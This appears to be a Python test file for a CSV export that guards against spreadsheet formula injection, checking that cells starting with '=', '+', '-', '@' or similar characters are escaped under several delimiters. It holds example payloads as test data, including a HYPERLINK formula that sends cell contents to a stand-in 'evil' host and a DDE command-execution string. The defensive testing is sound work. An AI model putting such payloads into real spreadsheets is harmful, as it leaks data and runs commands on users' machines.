"""A cell of a spreadsheet is never a formula, whatever separates it from the next."""

import csv
import io
import re
import time

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from agent.cli.output import show_rows
from agent.io.plain_text import format_cell


@pytest.mark.parametrize(
    "start",
    ["=", "+", "-", "@", "\t", "\r", "\n", " =", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u00a0="],
)
def test_a_cell_is_never_a_formula(start: str, capsys: pytest.CaptureFixture[str]):
    show_rows([{"name": f"{start}cmd()", "mean": -0.5}], {"name": "", "mean": ""}, "csv")
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    assert rows[1] == [f"'{start}cmd()", "-0.5"]


def cells(text: str, delimiter: str) -> list[str]:
    """What a spreadsheet may take for the cells of a table whose cell is `text`: it may ignore quotes or not."""
    file = io.StringIO(newline="")
    csv.writer(file).writerow(["code", format_cell(text), ""])
    found = re.split(
        f"[{delimiter}\r\n]", file.getvalue()
    )  # by a program that knows no quotation marks
    for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
        reader = csv.reader(
            io.StringIO(file.getvalue(), newline=""), delimiter=delimiter, quoting=quoting
        )
        found += [cell for row in reader for cell in row]
    return found


def is_formula(cell: str) -> bool:
    start = cell.lstrip().lstrip('"').lstrip()
    return start.startswith(("=", "@")) or (
        start.startswith(("+", "-")) and ("(" in start or "|" in start)
    )


@given(st.text("=+-@;\t\r\n\"'(|a ", max_size=12))
@example('Rest.;=HYPERLINK("http://evil/?"&B2)')
@example("x\n=1+1")
@example("x;-cmd|' /C calc'!A0;")
@example('x;"=1+1;')
@pytest.mark.parametrize("delimiter", [";", "\t"])
def test_no_cell_is_a_formula_where_other_signs_separate_them(delimiter: str, text: str):
    assert [cell for cell in cells(text, delimiter) if is_formula(cell)] == []
    assert format_cell(text).replace("'", "") == text.replace("'", "")


def test_a_list_of_an_answer_stays_as_it_was_written():
    text = "Take:\n- aspirin; 3-4 a day\n- rest\n+ tea\n\n-- a + b = c; no more"
    assert format_cell(text) == text


def test_a_long_text_of_breaks_and_spaces_is_a_cell_at_once():
    for text in ("\n" * 10**6, "; " * 10**6, ";" + '" ' * 10**6, ";-" * 10**6, "\n-" + "a" * 10**6):
        began = time.process_time()
        format_cell(text)
        assert time.process_time() - began < 3
